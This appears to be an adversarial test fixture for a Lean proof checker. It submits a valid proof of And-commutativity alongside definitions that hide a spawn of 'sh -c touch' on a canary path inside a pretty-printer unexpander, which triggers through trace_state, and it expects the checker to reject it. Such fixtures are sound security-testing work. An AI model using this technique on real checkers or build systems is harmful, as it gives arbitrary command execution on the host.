-- target: Plain.lean:Plain.conj
-- expect: rejected
-- lean: accepts
-- harms: file
-- why: starts a shell, by definitions alone
⟨h.2, h.1⟩

@[extern "x"] def _root_.Array.mkEmpty {α : Type} (_ : Nat) : Array α := .mk .nil
@[extern "x"] def _root_.Array.push {α : Type} (xs : Array α) (_ : α) : Array α := xs
inductive Stdio where | piped | inherit | null
inductive StdioConfig where | mk (stdin stdout stderr : Stdio)
inductive SpawnArgs where
  | mk (stdio : StdioConfig) (cmd : String) (args : Array String) (cwd : Option String)
    (env : Array (Prod String (Option String))) (inheritEnv setsid : Bool)
@[extern "x"] def _root_.IO.Process.spawn (_ : SpawnArgs) (_ : Nat) : Lean.Name := .anonymous
def command : SpawnArgs :=
  .mk (.mk .null .null .null) "sh" (.push (.push (Array.mkEmpty 2) "-c") "touch ⟪CANARY⟫/spawned")
    .none (Array.mkEmpty 0) .true .true
@[app_unexpander And] def evil : Lean.PrettyPrinter.Unexpander := fun _ _ _ =>
  match _root_.IO.Process.spawn command 0 with
  | .anonymous => .error () ()
  | _ => .error () ()
def bait (p q : Prop) (h : p ∧ q) : q ∧ p := by trace_state; exact ⟨h.2, h.1⟩
